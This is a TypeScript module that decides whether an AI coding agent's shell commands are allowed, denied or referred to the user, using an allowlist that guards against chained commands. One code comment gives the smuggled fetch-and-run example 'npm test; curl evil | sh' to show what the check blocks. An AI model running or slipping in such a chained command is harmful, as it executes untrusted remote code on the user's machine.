/**
 * The `reasoningBank.commandApproval` policy as one pure decision, shared by the engine process (which
 * enforces it) and the extension (whose tests check it): "auto" runs everything (still only inside the
 * attempt's worktree), "allowlist" runs what `allowedCommands` names and denies the rest without asking,
 * "ask" runs what is allowed and asks the user about the rest.
 */
import type { CommandApproval } from './protocol';

export type ApprovalDecision = 'allow' | 'deny' | 'ask';

// A prefix entry ("npm test") must not let "npm test; curl evil | sh" through: commands that chain,
// pipe, redirect or substitute only match an entry exactly.
const SHELL_CONTROL = /[;&|`<>\n]|\$\(/;

export function isAllowedCommand(command: string, allowed: readonly string[]): boolean {
  const cmd = command.trim();
  if (!cmd) return false;
  for (const raw of allowed) {
    const entry = raw.trim();
    if (!entry) continue;
    if (cmd === entry) return true;
    if (!SHELL_CONTROL.test(cmd) && cmd.startsWith(entry + ' ')) return true;
  }
  return false;
}

export function decideApproval(policy: CommandApproval, command: string, allowed: readonly string[]): ApprovalDecision {
  if (policy === 'auto') return 'allow';
  if (isAllowedCommand(command, allowed)) return 'allow';
  return policy === 'allowlist' ? 'deny' : 'ask';
}

export function denialReason(policy: CommandApproval, command: string): string {
  return policy === 'allowlist'
    ? `command not run: "${command}" is not in reasoningBank.allowedCommands (commandApproval is "allowlist"). Use another way or finish.`
    : `command not run: the user denied "${command}". Do not retry it; use another way or finish.`;
}
